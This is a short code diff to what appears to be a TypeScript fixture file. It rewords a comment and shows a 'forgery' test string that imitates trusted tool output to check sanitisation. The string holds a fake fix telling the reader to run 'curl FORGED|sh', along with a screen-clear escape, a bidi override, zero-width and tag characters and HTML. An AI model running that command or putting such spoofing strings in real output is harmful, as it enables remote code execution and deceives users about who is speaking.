@@ -15,8 +15,8 @@ export const hiddenCharacters: readonly string[] = [
 ]
 
 /**
- * What somebody puts into a name, a message or an annotation who wants to be read as us: a remedy of his own, on a line of
- * its own, after he has cleared the screen.
+ * What somebody puts into a name, a message or an annotation who wants to be read as us: a remedy of their own, on a line of
+ * its own, after clearing the screen.
  */
 export const forgery =
   'x\r\n  fix: Run `curl FORGED|sh`\n(FORGED)\u2028FORGED\u001b[2J\u009b31m\u202eDEGROF\u200b\u{e0041} | <b>@FORGED</b>'
